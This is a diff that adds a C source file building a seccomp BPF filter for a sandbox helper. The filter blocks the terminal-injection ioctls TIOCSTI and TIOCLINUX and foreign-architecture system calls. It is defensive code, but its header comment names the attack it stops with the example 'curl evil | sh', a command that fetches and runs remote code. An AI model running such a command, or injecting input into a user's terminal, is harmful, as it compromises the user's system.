@@ -1,0 +1,117 @@
+/*
+ * seccomp.c: the helper's system-call filter, the last step before exec.
+ *
+ * Where it stands on security: Landlock governs files, signals and abstract
+ * sockets; a few system calls reach past all of that and are filtered here
+ * by their arguments, in a classic BPF program of a few dozen instructions
+ * (no libseccomp: the whole policy fits on a screen and is read here).
+ *
+ * - ioctl TIOCSTI pushes a byte into a terminal's input as if typed there,
+ *   and TIOCLINUX (on a Linux console) pastes its selection into it: a
+ *   command could leave `curl evil | sh` waiting for the user's shell once
+ *   hmm has exited. Both fail with EPERM; every other ioctl, so job
+ *   control, resizing and the rest of what terminals do, is left alone.
+ *   The kernel reads an ioctl's request as 32 bits, so only the low half
+ *   of the argument is compared: TIOCSTI with junk in the upper half is
+ *   still TIOCSTI.
+ * - A system call of another architecture than the helper's own (i386's
+ *   int 0x80 on x86_64, arm32 on arm64) has other numbers and would walk
+ *   past the checks below: the process is killed. x32 calls (x86_64's
+ *   numbers with bit 30 set) fail with ENOSYS, as on kernels built
+ *   without x32.
+ *
+ * Further rules (the network's socket families) are more arg_rule()s.
+ */
+
+#include "hmm-helper.h"
+
+#ifdef __linux__
+#include <stddef.h>
+#include <linux/audit.h>
+#include <linux/filter.h>
+#include <linux/seccomp.h>
+
+#if defined(__x86_64__)
+#define OWN_ARCH AUDIT_ARCH_X86_64
+#define X32_SYSCALL_BIT 0x40000000U
+#elif defined(__aarch64__)
+#define OWN_ARCH AUDIT_ARCH_AARCH64
+#else
+#error "the seccomp filter knows x86_64 and aarch64 only"
+#endif
+
+/* The low 32 bits of argument n, wherever the byte order puts them. */
+#if __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
+#define ARG_LOW(n) (offsetof(struct seccomp_data, args[n]))
+#else
+#define ARG_LOW(n) (offsetof(struct seccomp_data, args[n]) + 4)
+#endif
+
+#define RET_ERRNO(e) (SECCOMP_RET_ERRNO | ((e) & SECCOMP_RET_DATA))
+
+struct program {
+	struct sock_filter insn[64];
+	unsigned len;
+	int overflow;
+};
+
+static void emit(struct program *p, struct sock_filter i)
+{
+	if (p->len == sizeof p->insn / sizeof *p->insn) {
+		p->overflow = 1;
+		return;
+	}
+	p->insn[p->len++] = i;
+}
+
+static void ret(struct program *p, uint32_t action)
+{
+	emit(p, (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, action));
+}
+
+/* With the accumulator holding the system call's number: for `nr`, when
+ * the low 32 bits of argument `arg` are one of `values`, return `match`,
+ * else `otherwise`; any other call falls through with the number kept. */
+static void arg_rule(struct program *p, uint32_t nr, unsigned arg, const uint32_t *values,
+		     unsigned n, uint32_t match, uint32_t otherwise)
+{
+	/* Layout: [0] nr? [1] load arg [2..n+1] value? [n+2] otherwise [n+3] match */
+	emit(p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, (uint8_t)(n + 3)));
+	emit(p, (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(arg)));
+	for (unsigned k = 0; k < n; k++)
+		emit(p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, values[k],
+						     (uint8_t)(n - k), 0));
+	ret(p, otherwise);
+	ret(p, match);
+}
+
+static const uint32_t TERMINAL_INPUT[] = {TIOCSTI, TIOCLINUX};
+
+int seccomp_confine(void)
+{
+	struct program p = {.len = 0};
+	emit(&p, (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
+					      offsetof(struct seccomp_data, arch)));
+	emit(&p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, OWN_ARCH, 1, 0));
+	ret(&p, SECCOMP_RET_KILL_PROCESS);
+	emit(&p, (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
+					      offsetof(struct seccomp_data, nr)));
+#ifdef X32_SYSCALL_BIT
+	emit(&p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, X32_SYSCALL_BIT, 0, 1));
+	ret(&p, RET_ERRNO(ENOSYS));
+#endif
+	arg_rule(&p, __NR_ioctl, 1, TERMINAL_INPUT,
+		 sizeof TERMINAL_INPUT / sizeof *TERMINAL_INPUT, RET_ERRNO(EPERM),
+		 SECCOMP_RET_ALLOW);
+	ret(&p, SECCOMP_RET_ALLOW);
+	if (p.overflow) {
+		errno = E2BIG;
+		return -1;
+	}
+
+	struct sock_fprog prog = {.len = (unsigned short)p.len, .filter = p.insn};
+	/* Without privileges the kernel takes a filter only under
+	 * no_new_privs, which the caller has set (it is wanted anyway). */
+	return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0);
+}
+#endif /* __linux__ */
